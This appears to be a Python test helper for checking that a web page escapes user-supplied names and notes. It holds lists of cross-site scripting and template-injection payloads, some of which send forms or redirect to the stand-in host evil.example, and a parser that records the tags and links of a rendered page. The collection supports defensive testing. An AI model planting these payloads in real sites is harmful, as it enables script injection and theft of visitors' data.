"""What strangers write into names, notes and reasons to have a page run it, and what a parser sees of the page."""

from html.parser import HTMLParser

#: Each breaks out of another place: text, an attribute, an element of raw text, a comment, a template, an address.
HOSTILE = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    "</title><svg/onload=alert(1)>",
    "</style><script>alert(1)</script>",
    "{{7*7}}{% raise %}",
    "javascript:alert(1)",
    "<!-- --><base href=//evil.example>",
    "\u202egnp.exe",
    "&lt;b&gt;",
    "{rep} {0.__class__} %(x)s",
]
#: What only a browser can tell about: repaired markup, events without a click, addresses that load.
HOSTILE_TO_BROWSERS = [
    "</textarea><script>alert(1)</script>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<iframe srcdoc="<script>parent.alert(1)</script>">',
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<a href="javascript:alert(1)" id=content>x</a>',
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=//evil.example><button>",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u2028<script>alert(1)</script>\u2029",
    "${alert(1)}#{alert(1)}<%= alert(1) %>",
]


class Seen(HTMLParser):
    """Tags, attributes and addresses of a page."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.links: set[str] = set()
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}
        self.links |= {value or "" for name, value in attrs if name in {"href", "action", "src"}}
